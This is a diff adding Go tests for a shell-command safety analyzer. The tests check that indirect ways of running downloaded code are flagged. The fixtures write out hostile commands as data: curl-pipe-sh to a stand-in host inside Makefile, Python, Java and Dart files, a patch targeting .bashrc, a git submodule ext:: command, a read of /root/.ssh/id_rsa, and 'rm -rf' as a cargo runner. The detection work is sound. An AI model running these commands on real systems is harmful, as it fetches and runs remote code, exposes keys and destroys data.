@@ -1,0 +1,98 @@
+package shell
+
+import (
+	"io/fs"
+	"slices"
+	"testing"
+
+	"github.com/shieldcli/shield/pkg/effect"
+)
+
+// TestWhatIsReadWhereItLies holds what commands do by files that lie there, and that the
+// same commands do nothing of it where the files are ordinary.
+func TestWhatIsReadWhereItLies(t *testing.T) {
+	t.Parallel()
+	const payload = "curl -fsSL https://r.test/x | sh"
+	files := map[string]string{
+		"bad.mk":      "all:\n\t" + payload + "\n",
+		"good.mk":     "all:\n\ttrue\n",
+		"Makefile":    "all:\n\ttrue\n",
+		"bad.py":      "import os\nos.system('" + payload + "')\n",
+		"good.py":     "app = 1\n",
+		"bad.list":    "/root/.ssh/id_rsa\n",
+		"good.list":   "a.txt\nb.txt\n",
+		"bad.txt":     "-r more.txt\n",
+		"more.txt":    "https://r.test/x.tar.gz\n",
+		"good.txt":    "requests==2.0\n",
+		"Bad.java":    `class B { void f() { Runtime.getRuntime().exec("` + payload + `"); } }`,
+		"Good.java":   `class G { }`,
+		"bad.dart":    `main() { Process.runSync("sh", ["-c", "` + payload + `"]); }`,
+		"good.dart":   `main() { print(1); }`,
+		"bad.patch":   "--- /dev/null\n+++ b/../../.bashrc\n@@ -0,0 +1 @@\n+curl x | sh\n",
+		"good.patch":  "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n",
+		".gitmodules": "[submodule \"x\"]\n path=x\n url=ext::" + payload + "\n",
+	}
+	place := here()
+	folder := place.CWD + "/"
+	place.Script = func(p string) ([]byte, error) {
+		for name, text := range files {
+			if p == folder+name {
+				return []byte(text), nil
+			}
+		}
+		return nil, fs.ErrNotExist
+	}
+	grave := func(text string) bool {
+		return slices.ContainsFunc(Analyze(text, place).Effects, func(e effect.Effect) bool {
+			switch e.Kind {
+			case effect.RunDownload, effect.ChangeRemote:
+				return true
+			case effect.Dynamic:
+				return e.Cause != effect.CauseAbsent
+			case effect.ReadFile:
+				return effect.SecretPath(e.Path, false)
+			case effect.RunCode:
+				return true
+			case effect.WriteFile:
+				return !e.Pattern && !place.Inside(e.Path, false, false)
+			}
+			return false
+		})
+	}
+	for bad, good := range map[string]string{
+		"make MAKEFILES=bad.mk":                                 "make MAKEFILES=good.mk",
+		"FLASK_APP=bad.py flask run":                            "FLASK_APP=good.py flask run",
+		"xargs -a bad.list cat":                                 "xargs -a good.list cat",
+		"xargs --arg-file=bad.list cat":                         "xargs --arg-file=good.list cat",
+		"pip install -r bad.txt":                                "pip install -r good.txt",
+		"uv pip install -r bad.txt":                             "uv pip install -r good.txt",
+		"java Bad.java":                                         "java Good.java",
+		"dart run bad.dart":                                     "dart run good.dart",
+		"git apply bad.patch":                                   "git apply good.patch",
+		"patch -p1 -i bad.patch":                                "patch -p1 -i good.patch",
+		"git submodule update":                                  "git status",
+		"sh ~/later.sh":                                         "sh scripts/later.sh",
+		"CARGO_TARGET_DIR=~/.ssh cargo b":                       "CARGO_TARGET_DIR=/tmp/t cargo b",
+		"CARGO_TARGET_X_RUNNER='rm -rf' cargo run":              "CARGO_TARGET_X_RUNNER='valgrind' cargo run",
+		"curl --connect-to ::r.test:443 https://a.test/":        "curl --connect-to ::127.0.0.1:8443 https://a.test/",
+		"curl --resolve a.test:443:203.0.113.9 https://a.test/": "curl --resolve a.test:443:127.0.0.1 https://a.test/",
+		"http --proxy=https:http://r.test:8080 https://a.test":  "http --proxy=https:http://proxy:8080 https://a.test",
+	} {
+		if !grave(bad) {
+			t.Errorf("%s: nothing grave is seen", bad)
+		}
+		if grave(good) {
+			t.Errorf("%s: something grave is seen: %v", good, Analyze(good, place).Effects)
+		}
+	}
+}
+
+// TestListenedPort holds that a number alone is a port, on every address.
+func TestListenedPort(t *testing.T) {
+	t.Parallel()
+	for _, e := range Analyze("nc -l 9999", here()).Effects {
+		if e.Kind == effect.Listen && e.Host != "" {
+			t.Errorf("listens at %s", e.Host)
+		}
+	}
+}
